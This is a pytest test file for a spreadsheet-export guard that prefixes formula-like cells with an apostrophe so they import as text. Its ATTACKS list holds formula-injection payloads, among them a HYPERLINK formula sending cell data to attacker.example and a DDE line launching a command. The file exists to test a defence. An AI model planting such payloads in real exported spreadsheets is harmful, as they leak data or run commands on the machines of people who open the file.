"""Cells that a spreadsheet would run as formulas are written as text, whatever comes first."""

from __future__ import annotations

import pytest

from equityhub.core.spreadsheet import safe_cell

ATTACKS = [
    '=HYPERLINK("https://attacker.example/?"&A1,"Open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
]


@pytest.mark.parametrize("value", ATTACKS)
def test_formula_starts_are_made_text(value: str) -> None:
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["", "NHS England", "2024-25", " =not first", "1e3"])
def test_ordinary_cells_are_unchanged(value: str) -> None:
    assert safe_cell(value) == value


@pytest.mark.parametrize("value", ["-0.5", "+3", "-1e-3", "-12"])
def test_signed_numbers_stay_numbers(value: str) -> None:
    # A guard on "-0.5" would make every negative gap or slope re-import as text.
    assert safe_cell(value) == value


def test_a_row_keeps_blanks_and_numbers_and_guards_text() -> None:
    from equityhub.core.spreadsheet import safe_row

    assert safe_row([None, "", -1.5, 3, "=1+1", "RZZ", True]) == [
        "",
        "",
        -1.5,
        3,
        "'=1+1",
        "RZZ",
        "True",
    ]


@pytest.mark.parametrize(
    "value",
    [*ATTACKS, "", "NHS England", "-0.5", "'=1+1", "''@x", "'quoted", "'", "'-0.5", "'\t=1"],
)
def test_reading_a_guarded_cell_gives_back_the_text(value: str) -> None:
    from equityhub.core.spreadsheet import read_cell

    assert read_cell(safe_cell(value)) == value


def test_text_that_already_starts_with_an_apostrophe_before_a_formula_gets_another() -> None:
    assert safe_cell("'=1+1") == "''=1+1"
    assert safe_cell("'quoted") == "'quoted"
